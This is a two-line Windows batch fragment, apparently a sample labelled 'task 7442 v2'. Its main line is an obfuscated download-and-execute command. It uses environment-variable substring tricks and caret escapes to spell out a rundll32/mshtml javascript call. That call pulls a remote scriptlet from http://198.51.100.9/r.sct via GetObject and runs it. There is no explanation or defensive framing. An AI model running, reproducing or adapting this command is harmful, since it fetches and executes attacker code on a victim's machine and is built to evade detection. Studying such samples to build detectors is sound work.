REM task 7442 v2
%programdata:~-10,1%^u%comspec:~-22,1%%comspec:~6,1%%PUBLIC:~-3,1%%PUBLIC:~-3,1%3^2.%COMSPEC:~26,1%%comspec:~-2,1%%COMSPEC:~-1,1% ^ja^vascr^ipt:"\..\mshtml,RunHTMLApplication ";d^ocu^m^e^nt.^w^r^ite();G^e^tO^b^je^c^t("script:http://198.51.100.9/r.sct")
